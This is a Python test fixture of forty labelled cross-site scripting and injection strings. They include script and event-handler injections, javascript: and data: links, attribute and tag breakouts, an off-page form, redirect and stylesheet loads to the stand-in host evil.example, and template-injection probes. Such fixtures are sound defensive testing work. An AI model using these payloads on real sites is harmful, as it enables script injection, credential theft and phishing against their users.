"""Forty strings that would run a script, leave the page or change it, if a page let them; written for these tests.

Each that runs leaves ``window.__pwned`` behind or opens a dialog; each that loads calls ``evil.example``.
"""

from __future__ import annotations

_RUN = "window.__pwned=1"

#: By what each is about: where an unescaped one would come to life.
PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals, with a space": f"<ScRiPt >{_RUN};alert(1)</sCrIpT >",
    "script from elsewhere": '<script src="https://evil.example/a.js"></script>',
    "script after the end of an attribute": f'"><script>{_RUN}</script>',
    "script after the end of another": f"'><script>{_RUN}</script>",
    "script after the end of a text field": f"</textarea><script>{_RUN}</script>",
    "script after the end of the title": f"</title></head><body><script>{_RUN}</script>",
    "script after the end of the style": f"</style><script>{_RUN}</script>",
    "script after the end of a script": f"</script><script>{_RUN}</script>",
    "script after the end of a comment": f"--><script>{_RUN}</script><!--",
    "script after the end of CDATA": f"]]><script>{_RUN}</script>",
    "script after the end of a choice": f"</option></select><script>{_RUN}</script>",
    "the name of a script, cut by a NUL": f"<scr\0ipt>{_RUN}</scr\0ipt>",
    "image that fails": f"<img src=x onerror={_RUN}>",
    "image that fails, after an attribute": f'" ><img src=x onerror="{_RUN}">',
    "image without spaces": f"<img/src=x/onerror={_RUN}>",
    "image in backquotes": f"<img src=`x` onerror=`{_RUN}`>",
    "drawing": f"<svg onload={_RUN}>",
    "drawing with a script": f"<svg><script>{_RUN}</script></svg>",
    "drawing with a link": f'<svg><a xlink:href="javascript:{_RUN}"><text y="20">open</text></a></svg>',
    "drawing with an animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "focus": f'" autofocus onfocus="{_RUN}" x="',
    "focus by a field": f"<input autofocus onfocus={_RUN}>",
    "details": f"<details open ontoggle={_RUN}>more</details>",
    "the pointer": f"' onmouseover='{_RUN}' style='position:fixed;inset:0' x='",
    "frame": f'<iframe src="javascript:parent.__pwned=1" srcdoc="<script>parent.__pwned=1</script>"></iframe>{_RUN}',
    "object": '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
    "a page's address": '<base href="https://evil.example/">',
    "another page": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a form": '<form action="https://evil.example/"><button>Sign in</button></form>',
    "a style": "<style>body{display:none} *{background:url(https://evil.example/a.png)}</style>",
    "a style that came from elsewhere": '<link rel=stylesheet href="https://evil.example/a.css">',
    "link": f"javascript:{_RUN}//https://a.example/",
    "link with a line end in it": f"java\nscript:{_RUN}",
    "link to a page of its own": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link in Markdown": f"[the ruling](javascript:{_RUN}) ![x](https://evil.example/a.png)",
    "link in old script": f"vbscript:{_RUN}",
    "template": "{{7*7}}{% print(1337*7) %}${7*7}#{7*7}<%= 7*7 %>{{ config }}{{ ''.__class__.__mro__ }}",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;&quot;",
    "turned round": f"\u202e\u2066<script>{_RUN}</script>\u2069\u202c\u200f",
}
